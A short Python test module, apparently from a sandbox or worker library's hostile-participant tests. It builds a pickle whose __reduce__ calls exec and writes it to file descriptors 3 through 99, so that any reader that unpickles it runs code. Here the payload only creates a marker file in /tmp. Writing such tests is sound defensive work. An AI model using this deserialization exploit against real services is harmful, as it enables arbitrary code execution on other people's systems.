"""Sends a pickle that executes what it likes to whoever reads one of its descriptors."""

import os
import pickle
import struct

from . import attacking


class Bomb:
    def __reduce__(self):
        return exec, ("open('/tmp/etp-hostile-pickle', 'w')",)


def attack(_: str) -> None:
    body = pickle.dumps(("result", Bomb()))
    for descriptor in range(3, 100):
        try:
            os.set_blocking(descriptor, False)
            os.write(descriptor, struct.pack("!i", len(body)) + body)
        except OSError:
            continue


make = attacking(attack, honest=False)
